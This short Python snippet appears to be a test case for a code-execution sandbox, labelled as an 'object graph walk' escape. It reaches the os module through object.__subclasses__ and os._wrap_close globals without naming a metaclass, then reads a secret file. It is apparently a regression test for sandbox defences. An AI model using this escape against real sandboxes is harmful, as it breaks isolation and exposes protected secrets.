# class: object graph walk
# technique: the metaclass without naming it, then the root class from it
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
root = kind(int).mro(kind(int))[-1]
classes = root.__subclasses__()
g = [c for c in classes if str(c) == "<class 'os._wrap_close'>"][0].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
